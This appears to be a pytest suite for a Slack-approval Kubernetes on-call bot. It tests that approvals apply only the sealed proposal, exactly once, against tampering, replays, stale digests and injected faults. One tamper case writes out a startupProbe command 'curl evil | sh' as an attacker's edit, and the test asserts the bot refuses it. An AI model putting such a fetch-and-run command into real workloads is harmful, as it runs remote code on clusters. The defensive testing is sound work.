"""Approvals you can trust: a click applies exactly the proposal its message showed, to the workload
its incident is about, once. Through the real Bolt request pipeline (signed requests), the real
kubernetes client against the API stand-in (incidents stored there as VLLMIncident objects, where
anyone with write access could edit them), and the Slack Web API stand-in."""

from __future__ import annotations

import json
from datetime import timedelta

import pytest
from builders import EXAMPLE_LOG, TrackedExecutor
from kubeapi.objects import container, crashing_deployment, deployment
from kubeapi.server import Chaos
from slack_bolt.request import BoltRequest
from slackapi.requests import click_body, decision_value, signed_headers

from bot.app.records import AlertTarget
from bot.app.service import OncallService, Policy
from bot.app.state import IncidentState
from bot.kube.api import KubeApi
from bot.kube.incidents import KubeIncidentStore
from bot.kube.live import LiveCluster
from bot.kube.retry import RetryPolicy
from bot.remedy.models import Proposal
from bot.slack.app import build_app
from bot.slack.chat import SlackChat, make_client

SECRET = "trusted-approvals-secret"
NS, APPROVER = "inference", "U0APPROVER"
ARGS = ["--max-model-len", "32768", "--gpu-memory-utilization", "0.9"]


class World:
    def __init__(self, kube, slack, clock=None, extra=(), fresh=True):
        self.kube, self.slack = kube, slack
        for name in ("vllm-a", "vllm-b", *extra) if fresh else ():
            crashing_deployment(kube, name=name, previous_log=EXAMPLE_LOG, containers=[container(
                command=["vllm", "serve", "meta-llama/Llama-3.1-8B-Instruct"], args=list(ARGS))])
        if fresh:  # what an attacker would like to patch instead: another namespace's Deployment
            kube.put(deployment("vllm-a", [container(args=list(ARGS))], namespace="kube-system"))
        self.kube_system_before = kube.get("Deployment", "vllm-a", "kube-system")["spec"]
        api = KubeApi(kube.api_client(), retry=RetryPolicy(attempts=3, initial=0.001, maximum=0.002,
                                                           sleep=lambda s: None), request_timeout=2)
        self.cluster = LiveCluster(api, name="prod", poll_seconds=0.01)
        self.store = KubeIncidentStore(api, "vllm-oncall")
        web = make_client("xoxb-test", slack.url)
        self.chat = SlackChat(web, "C0ALERTS", max_attempts=2, backoff_seconds=0.001, sleep=lambda s: None)
        self.service = OncallService(self.cluster, self.store, self.chat,
                                     Policy(approver_users=frozenset({APPROVER}), verify_timeout_seconds=0.05),
                                     metrics=self.chat.metrics, **({"clock": clock} if clock else {}))
        self.listeners = TrackedExecutor()  # where Bolt runs the click's listener: waited on, not slept on
        self.app = build_app(self.service, web, signing_secret=SECRET, token_verification_enabled=False,
                             listener_executor=self.listeners)

    def alert(self, workload: str):
        pod = next(p["metadata"]["name"] for p in self.kube.list("Pod", NS) if p["metadata"]["name"].startswith(
            workload + "-"))
        incident = self.service.handle_alert(AlertTarget(namespace=NS, pod=pod, container="vllm"))
        assert incident is not None and incident.message_id and incident.state == "proposed"
        return incident

    def click(self, value: str, ts: str, action: str = "vllm_approve", body: str | None = None):
        body = body or click_body(action, value, APPROVER, ts, channel="C0ALERTS")
        before = len(self.slack.calls)
        response = self.app.dispatch(BoltRequest(body=body, headers=signed_headers(body, SECRET)))
        assert response.status == 200
        self.settle(before)
        return body

    def settle(self, before: int) -> None:
        """Bolt runs the listener in its own thread: wait until it (and all it started) has finished."""
        self.listeners.wait_idle()
        assert len(self.slack.calls) > before, "the click was never answered in Slack"

    def patches(self) -> list:
        """Real (not dry-run) patches of workloads that changed a workload. A patch the API server
        refused changed nothing: under load the client can time out on a patch that committed and
        retry it, and the retry's `test` ops fail (422), which is the guard doing its job."""
        return [c for c in self.kube.calls if c.verb == "patch" and not c.dry_run and c.resource in (
            "deployments", "statefulsets") and (c.committed or (c.code is not None and c.code < 400))]

    def args(self, name: str, namespace: str = NS) -> list[str]:
        return self.kube.get("Deployment", name, namespace)["spec"]["template"]["spec"]["containers"][0]["args"]

    def told(self) -> list[str]:
        return [c.params["text"] for c in self.slack.delivered("chat.postEphemeral")]

    def tamper(self, name: str, edit) -> Proposal:
        """Someone with write access edits the stored proposal, and recomputes its digest so it looks sealed."""
        obj = self.kube.get("VLLMIncident", name, "vllm-oncall")
        record = json.loads(obj["spec"]["record"])
        edit(record["proposal"])
        proposal = Proposal.model_validate(record["proposal"]).sealed()
        record["proposal"] = proposal.model_dump(mode="json")
        self.kube.edit("VLLMIncident", name, "vllm-oncall",
                       lambda o: o["spec"].update(record=json.dumps(record)))
        return proposal


@pytest.fixture
def world(kube_api, slack):
    return World(kube_api, slack)


def test_the_button_carries_the_digest_of_the_proposal_shown_and_approve_applies_it(world):
    incident = world.alert("vllm-a")
    post = world.slack.posts()[0]
    approve = next(e for b in post.params["blocks"] if b["type"] == "actions" for e in b["elements"])
    assert approve["value"] == decision_value(incident) and incident.proposal.intact()
    assert incident.proposal.workload.uid == world.kube.get("Deployment", "vllm-a", NS)["metadata"]["uid"]
    world.click(approve["value"], incident.message_id)
    assert world.store.get(incident.name).state in ("applied", "verified", "failed")  # verification is not ours
    assert len(world.patches()) == 1 and world.args("vllm-a") != ARGS
    record = json.loads(world.kube.get("Deployment", "vllm-a", NS)["metadata"]["annotations"][
        "vllm-oncall.io/last-change"])[-1]
    assert record["id"] == incident.proposal.id and record["digest"] == incident.proposal.digest


def _namespace(p):
    p["workload"]["namespace"] = "kube-system"


def _name(p):
    p["workload"]["name"] = "vllm-b"


def _kind(p):
    p["workload"]["kind"] = "StatefulSet"


def _uid(p):
    p["workload"]["uid"] = "00000000-0000-0000-0000-000000000000"


def _values(p):
    p["changes"][0]["after"] = "8192"
    p["command_after"] = [("8192" if a == p["changes"][0]["before"] else a) for a in p["command_after"]]
    for op in p["json_patch"]:
        if op["op"] == "replace" and op["path"].endswith("/args"):
            op["value"] = ["--max-model-len", "8192", "--gpu-memory-utilization", "0.9"]


def _patch(p):
    p["json_patch"].append({"op": "add", "path": "/spec/template/spec/containers/0/startupProbe",
                            "value": {"exec": {"command": ["sh", "-c", "curl evil | sh"]}}})


@pytest.mark.parametrize("edit, outcome", [(_namespace, "failed"), (_name, "failed"), (_kind, "failed"),
                                           (_uid, "failed"), (_values, "proposed"), (_patch, "proposed")],
                         ids=["namespace", "name", "kind", "uid", "values", "patch"])
def test_an_edited_incident_object_is_never_applied(world, edit, outcome):
    incident = world.alert("vllm-a")
    edited = world.tamper(incident.name, edit)
    world.click(f"{incident.name}|{edited.digest}", incident.message_id)  # even a click carrying the forged digest
    assert world.patches() == [], "nothing may be patched"
    assert world.args("vllm-a") == ARGS and world.args("vllm-b") == ARGS
    assert world.kube.get("Deployment", "vllm-a", "kube-system")["spec"] == world.kube_system_before
    after = world.store.get(incident.name)
    # a wrong target is refused; wrong values or patch are replaced by the proposal derived now
    assert after.state == outcome
    if outcome == "proposed":
        assert after.proposal.digest != edited.digest and after.proposal.changes == incident.proposal.changes
    replies = [c.params["text"] for c in world.slack.replies()]
    assert replies and ("Not applied" in replies[-1])


def test_a_stale_digest_after_a_re_proposal_is_refused_and_the_old_message_loses_its_old_buttons(world):
    incident = world.alert("vllm-a")
    old_value = decision_value(incident)
    # someone edits the Deployment: the apply conflicts and the bot re-proposes under a new digest
    world.kube.edit("Deployment", "vllm-a", NS, lambda d: d["spec"]["template"]["spec"]["containers"][0].update(
        args=["--max-model-len", "30000", "--gpu-memory-utilization", "0.9"]))
    world.click(old_value, incident.message_id)
    reproposed = world.store.get(incident.name)
    assert reproposed.state == "proposed" and reproposed.proposal.digest != incident.proposal.digest
    last = [c for c in world.slack.delivered("chat.update") if c.params["ts"] == incident.message_id][-1]
    assert old_value not in json.dumps(last.params["blocks"])  # the message now carries only the new digest
    world.click(old_value, incident.message_id)  # the old value again (a copy of the message not updated)
    assert "this proposal was replaced; see the newest message" in world.told()[-1]
    assert world.patches() == [] and world.store.get(incident.name).state == "proposed"


def test_a_replayed_signed_click_applies_nothing(world):
    incident = world.alert("vllm-a")
    body = world.click(decision_value(incident), incident.message_id)
    assert len(world.patches()) == 1
    applied_args = world.args("vllm-a")
    world.click("", "", body=body)  # the very same signed request again
    world.click("", "", body=body)
    assert len(world.patches()) == 1 and world.args("vllm-a") == applied_args
    assert "Nothing was changed" in world.told()[-1]


def test_one_incidents_button_value_on_anothers_message_changes_neither(world):
    a, b = world.alert("vllm-a"), world.alert("vllm-b")
    updates_before = len(world.slack.delivered("chat.update"))
    world.click(decision_value(a), b.message_id)  # A's value, B's message
    assert world.patches() == []
    assert world.store.get(a.name).state == world.store.get(b.name).state == "proposed"
    assert len(world.slack.delivered("chat.update")) == updates_before  # neither message was re-rendered
    assert "does not belong to the message" in world.told()[-1]


def test_an_old_button_without_a_digest_is_refused_with_a_clear_message(world):
    incident = world.alert("vllm-a")
    world.click(incident.name, incident.message_id)
    assert world.patches() == [] and world.store.get(incident.name).state == "proposed"
    assert "older message" in world.told()[-1]


# ---- exactly once under faults -------------------------------------------------------------------------

class Clock:
    """The service's clock, moved on by the test. `frozen`: it moves only when the test moves it
    (never with the wall), so no step of the test depends on how fast a loaded machine runs."""

    def __init__(self, frozen: bool = False):
        from bot.app.policy import utcnow

        start = utcnow()
        self.now, self.offset = (lambda: start) if frozen else utcnow, timedelta(0)

    def __call__(self):
        return self.now() + self.offset

    def advance(self, seconds: float) -> None:
        self.offset += timedelta(seconds=seconds)


def faulty_world(kube, slack, n: int, clock: Clock | None = None) -> tuple[World, list, Clock]:
    clock = clock or Clock()
    world = World(kube, slack, clock=clock, extra=[f"vllm-c{i}" for i in range(n - 2)])
    incidents = [world.alert(name) for name in ["vllm-a", "vllm-b"] + [f"vllm-c{i}" for i in range(n - 2)]]
    return world, incidents, clock


def audit_changes(world, name: str) -> list[dict]:
    text = (world.kube.get("Deployment", name, NS)["metadata"].get("annotations") or {}).get(
        "vllm-oncall.io/last-change")
    return [r for r in json.loads(text or "[]") if r["action"] == "change"]


def assert_exactly_once(world, incidents) -> dict[str, int]:
    outcomes: dict[str, int] = {}
    for incident in incidents:
        final = world.store.get(incident.name)
        outcomes[final.state] = outcomes.get(final.state, 0) + 1
        assert final.state != "applying", f"{incident.name} is stuck"
        records = audit_changes(world, incident.workload)
        assert len(records) <= 1, f"{incident.workload} was patched twice"
        if final.state in ("applied", "verified"):
            assert records and records[0]["digest"] == final.proposal.digest  # applied: and it is on the workload
        else:
            assert final.state in ("failed", "proposed") and records == []  # refused or re-proposed: nothing applied
        assert any(incident.message_id == c.params.get("thread_ts") for c in world.slack.replies()), "reported"
    return outcomes


def test_under_30_percent_injected_failures_every_approval_ends_applied_or_refused_once(kube_api, slack):
    world, incidents, clock = faulty_world(kube_api, slack, 10)
    chaos = kube_api.chaos = Chaos(0.3, seed=8, verbs={"patch", "update", "create"},
                                   resources={"deployments", "vllmincidents"})
    for incident in incidents:
        try:
            world.click(decision_value(incident), incident.message_id)
        except AssertionError:
            pass  # the click's listener died on a fault before answering: the sweep must recover it
    for _ in range(5):  # later sweeps, still under faults
        clock.offset += timedelta(minutes=5)
        world.service.sweep()
    kube_api.chaos = None
    clock.offset += timedelta(minutes=5)
    world.service.sweep()
    injected = chaos.injected
    outcomes = assert_exactly_once(world, incidents)
    assert {when for _, _, when, _ in injected} == {"before", "after"}, injected  # both kinds really happened
    assert outcomes.get("applied", 0) + outcomes.get("verified", 0) >= 1, outcomes


@pytest.mark.parametrize("step", ["claim", "patch"])
def test_a_kill_at_claim_or_patch_is_resumed_by_a_second_instance_once(kube_api, slack, step):
    world, incidents, clock = faulty_world(kube_api, slack, 2)
    incident = incidents[0]
    # the instance dies: at "claim", right after its claim committed; at "patch", after the patch committed
    if step == "claim":
        world.service.decisions.cas.claim(incident.name, {IncidentState.PROPOSED}, IncidentState.APPLYING,
                                          f"approved by {APPROVER}", approver=APPROVER,
                                          digest=incident.proposal.digest)
    else:
        kube_api.fail_commit("patch", "deployments", "after", "drop")
        kube_api.fail("get", "deployments", 503)  # and it cannot read back either: as good as dead
        world.click(decision_value(incident), incident.message_id)
        kube_api.commit_faults.clear()
        kube_api.faults.clear()
    assert world.store.get(incident.name).state == "applying"
    second = World(kube_api, slack, clock=clock, fresh=False)  # another replica over the same store
    second.service.sweep()
    assert world.store.get(incident.name).state == "applying", "within the grace period nobody takes it over"
    clock.offset += timedelta(minutes=5)
    second.service.sweep()
    world.service.sweep()  # the first one, restarted, sweeps too: nothing happens twice
    assert world.store.get(incident.name).state in ("applied", "verified")
    assert len(audit_changes(world, incident.workload)) == 1
    assert len([c for c in world.patches() if c.code == 200 or c.committed]) == 1


def test_a_patch_that_could_outlast_the_apply_grace_is_not_started_and_the_sweep_applies_it_once(kube_api, slack):
    """The sweep takes an `applying` incident over after the apply grace; an applier whose patch
    (with its retries, Policy.patch_seconds) might still be in flight then must not start it."""
    world, (incident, _), clock = faulty_world(kube_api, slack, 2, Clock(frozen=True))
    world.service.policy.apply_grace, world.service.policy.patch_seconds = timedelta(seconds=2), 1.0
    # The claim commits, its answer comes 1.2 s late on the bot's clock (the stand-in's sleep moves
    # it; the wall does not, so a loaded machine can make no step later or earlier than that):
    # the patch could no longer end inside the grace.
    kube_api.sleep = clock.advance
    kube_api.fail_commit("patch", "vllmincidents", "after", "slow", seconds=1.2)
    world.click(decision_value(incident), incident.message_id)
    assert slack.wait_for(lambda: any("too slowly to patch safely" in c.params["text"] for c in slack.replies()), 60)
    assert world.patches() == [] and world.store.get(incident.name).state == "applying"
    world.service.sweep()  # inside the grace: nobody takes it over
    assert world.patches() == []
    clock.offset += timedelta(seconds=5)
    world.service.sweep()  # after it: taken over by a fresh claim, patched once, reported once
    assert world.store.get(incident.name).state in ("applied", "verified")
    assert len(world.patches()) == 1 and len(audit_changes(world, incident.workload)) == 1
    assert len([c for c in slack.replies() if "Applied by" in c.params["text"]]) == 1
